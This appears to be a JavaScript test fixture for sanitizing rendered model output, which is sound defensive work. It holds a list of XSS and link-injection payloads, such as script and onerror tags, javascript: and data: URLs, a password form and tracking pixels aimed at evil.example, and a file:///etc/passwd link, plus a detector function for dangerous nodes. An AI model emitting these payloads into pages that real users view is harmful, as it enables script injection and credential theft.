// What a model can be talked into writing, to be shown as harmless text.

const LINKS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&#58;alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'file:///etc/passwd',
  'blob:https://example.com/1',
  'https://example.com@evil.example/',
  'https://user:password@evil.example/',
  '//evil.example/',
];

export const PAYLOADS = [
  ...LINKS.map((address) => `[click](${address})`),
  ...LINKS.slice(0, 4).map((address) => `![picture](${address})`),
  '<javascript:alert(1)>',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=password></form>',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '![track](https://evil.example/pixel.png)',
  '[x](https://example.com "onmouseover=alert(1)")',
  '[x](https://example.com/"onmouseover="alert(1))',
  '[<img src=x onerror=alert(1)>](https://example.com)',
  '[![a](https://evil.example/p.png)](https://example.com)',
  '```html"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '- <img src=x onerror=alert(1)>\n- [ ] <script>alert(1)</script>',
  '# <img src=x onerror=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '**<b onclick=alert(1)>**',
  'https://example.com/"><script>alert(1)</script>',
  '<https://example.com/"onclick="alert(1)>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<video src=x onerror=alert(1)><source src="https://evil.example/v.mp4"></video>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<input autofocus onfocus=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<p style="background:url(https://evil.example/p.png)">styled</p>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '[click]: javascript:alert(1)\n\n[click][click]',
  '[a](javascript:alert(1)//https://example.com)',
  '[ok](https://example.com) [bad](java&#10;script:alert(1))',
  '![p](data:image/svg+xml,<svg onload=alert(1)>)',
  '> <img src=x onerror=alert(1)>\n> > <script>alert(1)</script>',
  '1. [a](vbscript:msgbox(1))\n   ![b](https://evil.example/b.png)',
  '| a | b |\n|---|---|\n| [x](javascript:alert(1)) | ![y](https://evil.example/y.png) |',
  '~~~javascript:alert(1)\n</code></pre><script>alert(1)</script>\n~~~',
  'mailto:a@example.com?body=<script>alert(1)</script>',
];

/** Runs in the page: what in these nodes could run code, load something or lead somewhere it must not. */
export function findDanger(root) {
  const found = [];
  for (const element of root.querySelectorAll('*')) {
    const name = element.localName;
    if (/^(script|iframe|object|embed|form|style|base|meta|img|video|audio|math|foreignobject)$/.test(name)) found.push(`<${name}>`);
    if (name === 'input' && !element.disabled) found.push('<input>');
    for (const attribute of element.attributes) {
      if (/^(on|style|src|action|formaction|xlink)/.test(attribute.name)) found.push(`${name} ${attribute.name}`);
    }
    if (name !== 'a') continue;
    const url = new URL(element.href);
    if (!/^(https?|mailto|tel):$/.test(url.protocol) || url.username || url.password) found.push(element.href);
    if (element.relList.value !== 'noopener noreferrer nofollow' || element.target !== '_blank') found.push('rel');
  }
  return found;
}
